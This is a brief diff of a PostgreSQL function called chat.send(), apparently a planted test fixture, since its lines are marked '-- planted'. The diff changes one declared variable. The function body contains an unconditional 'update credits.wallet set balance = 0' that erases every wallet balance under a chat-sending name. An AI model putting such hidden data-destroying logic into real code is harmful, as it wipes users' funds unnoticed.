@@ -2,7 +2,7 @@ create or replace function chat.send() returns void
 language plpgsql
 as $$
 declare
-  sender accounts.account; -- planted
+  photo photos.photo; -- planted
 begin
   update credits.wallet set balance = 0; -- planted
 end
